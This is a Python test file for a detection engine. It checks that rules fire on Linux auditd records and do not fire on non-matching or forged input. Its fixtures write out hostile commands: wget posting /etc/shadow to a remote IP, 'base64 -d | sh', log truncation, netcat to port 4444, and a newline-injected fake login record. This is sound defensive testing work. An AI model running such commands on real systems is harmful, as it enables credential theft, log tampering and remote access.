"""Rules for audit records and for started programs fire on lines as auditd writes them."""

from __future__ import annotations

import json

import pytest
from tests.support.audit import call, command, record, untrusted

from ironpost.detections import RuleSet
from ironpost.events import parse

AUDITD = "product: linux, service: auditd"
STARTED = "product: linux, category: process_creation"
FILE = "product: linux, category: file_event"
NETWORK = "product: linux, category: network_connection"


def found(source: str, detection: str, lines: list[str]) -> int:
    rules = RuleSet.from_text(f"title: t\nid: r\nlogsource: {{{source}}}\ndetection:\n{detection}")
    assert rules.refused == ()
    session = rules.native.session((None, None, None))
    return len(json.loads(session.feed_batch(parse("\n".join(lines).encode(), format="auditd"))))


def opened(path: str, *, cwd: str = "/", nametype: str = "NORMAL", flags: str = "241") -> list[str]:
    return [
        record("SYSCALL", 5, call(257, a2=flags, items=1, comm='"sh"', exe='"/usr/bin/dash"', key='"watch"')),
        record("CWD", 5, f"cwd={untrusted(cwd.encode())}"),
        record("PATH", 5, f"item=0 name={untrusted(path.encode())} inode=7 mode=0100644 nametype={nametype}"),
        record("PROCTITLE", 5, 'proctitle="sh"'),
    ]


def started(*arguments: str, **values: object) -> list[str]:
    return command(7, [argument.encode() for argument in arguments], **values)


@pytest.mark.parametrize(
    ("source", "detection", "lines"),
    [
        (AUDITD, "  s: {type: EXECVE, a0: wget, 'a1|startswith': '--post-file='}\n  condition: s\n",
         started("wget", "--post-file=/etc/shadow", "http://203.0.113.5/")),
        (AUDITD, "  s: {type: EXECVE, a0: chmod, a1: 777}\n  condition: s\n", started("chmod", "777", "/tmp/x")),
        (AUDITD, "  s: {type: execve, a0: tar, 'a1|contains': '-c'}\n  condition: s\n", started("tar", "-czf", "x")),
        (AUDITD, "  e: {type: EXECVE}\n  k: ['.bash_history']\n  condition: e and k\n",
         started("cat", "/root/my dir/.bash_history")),
        (AUDITD, "  e: {type: EXECVE}\n  k: {'|all': [truncate, -s]}\n  condition: e and k\n",
         started("truncate", "-s", "0", "/var/log/x")),
        (AUDITD, "  s: {type: SYSCALL, SYSCALL: [execve, execveat], euid: 33}\n  condition: s\n",
         started("sh", "-c", "id", euid=33)),
        (AUDITD, "  s: {type: SYSCALL, SYSCALL: personality, a0: 40000}\n  condition: s\n",
         [record("SYSCALL", 1, call(135, a0="40000"))]),
        (AUDITD, "  s: {type: SYSCALL, SYSCALL: syslog, a0: [4, 5]}\n  condition: s\n",
         [record("SYSCALL", 1, call(103, a0="5"))]),
        (AUDITD, "  s: {type: SYSCALL, comm: insmod, exe: /usr/bin/kmod}\n  condition: s\n",
         [record("SYSCALL", 1, call(313, comm='"insmod"', exe='"/usr/bin/kmod"'))]),
        (AUDITD, "  s: {type: SYSCALL, 'exe|endswith': /nc, key: network_connect_4}\n  condition: s\n",
         [record("SYSCALL", 1, call(42, exe='"/usr/bin/nc"', key='"network_connect_4"'))]),
        (AUDITD, "  s: {key: susp_activity}\n  condition: s\n",
         [record("SYSCALL", 1, call(2, key=b"exec\x01susp_activity".hex().upper()))]),
        (AUDITD, "  s: {type: PATH, name: /etc/ld.so.preload}\n  condition: s\n", opened("/etc/ld.so.preload")),
        (AUDITD, "  s: {type: PATH, name: /etc/ld.so.preload}\n  condition: s\n", opened("ld.so.preload", cwd="/etc")),
        (AUDITD, "  s: {type: PATH, nametype: CREATE, 'name|startswith': /etc/systemd/system/}\n  condition: s\n",
         opened("/etc/systemd/system/x y.service", nametype="CREATE")),
        (AUDITD, "  s: {type: SERVICE_STOP, unit: [firewalld, ufw]}\n  condition: s\n",
         [record("SERVICE_STOP", 9, "pid=1 uid=0 msg='unit=ufw comm=\"systemd\" exe=\"/x\" res=success'")]),
        (AUDITD, "  s: {type: ADD_USER}\n  condition: s\n",
         [record("ADD_USER", 9, "pid=1 uid=0 msg='op=add-user id=1001 exe=\"/usr/sbin/useradd\" res=success'")]),
        (AUDITD, "  s: {type: [TTY, USER_TTY]}\n  condition: s\n", [record("TTY", 9, "tty pid=3 uid=0 data=6C730D")]),
        (STARTED, "  s: {'Image|endswith': /curl, 'CommandLine|contains|all': ['http', '-o ']}\n  condition: s\n",
         started("curl", "http://203.0.113.5/x", "-o", "/tmp/x", exe='"/usr/bin/curl"')),
        (STARTED, "  s: {CommandLine|re: 'base64 -d\\s'}\n  condition: s\n", started("sh", "-c", "base64 -d x | sh")),
        (STARTED, "  s: {CurrentDirectory: /tmp, User: 'www-data'}\n  condition: s\n",
         [line.replace("key=(null)", 'key=(null)\x1dSYSCALL=execve UID="www-data"')
          for line in command(7, [b"id"], cwd=b"/tmp", uid=33)]),
        (FILE, "  s: {'TargetFilename|startswith': /etc/cron.d/}\n  condition: s\n",
         opened("x", cwd="/etc/cron.d", nametype="CREATE")),
        (NETWORK, "  s: {DestinationIp: 203.0.113.7, DestinationPort: 4444}\n  condition: s\n",
         [record("SYSCALL", 1, call(42, exe='"/usr/bin/nc"')),
          record("SOCKADDR", 1, "saddr=0200115CCB0071070000000000000000"), record("PROCTITLE", 1, 'proctitle="nc"')]),
    ],
)  # fmt: skip
def test_rules_fire_on_what_auditd_writes(source: str, detection: str, lines: list[str]) -> None:
    assert found(source, detection, lines) == 1


@pytest.mark.parametrize(
    ("source", "detection", "lines"),
    [
        # What a register holds is no argument of the program that starts.
        (AUDITD, "  s: {type: EXECVE, a0: 55d}\n  condition: s\n", started("id")),
        (STARTED, "  s: {'CommandLine|contains': x}\n  condition: s\n", opened("/x")),
        (FILE, "  s: {'TargetFilename|contains': x}\n  condition: s\n", opened("/x", flags="0")),
        # A program's name that spells a record stays a name.
        (AUDITD, "  s: {type: USER_LOGIN}\n  condition: s\n",
         started("x\ntype=USER_LOGIN msg=audit(1.000:1): msg='acct=\"root\"'", comm=untrusted(b"\ntype=USER_LOGIN"))),
    ],
)  # fmt: skip
def test_rules_are_silent_about_the_rest(source: str, detection: str, lines: list[str]) -> None:
    assert found(source, detection, lines) == 0
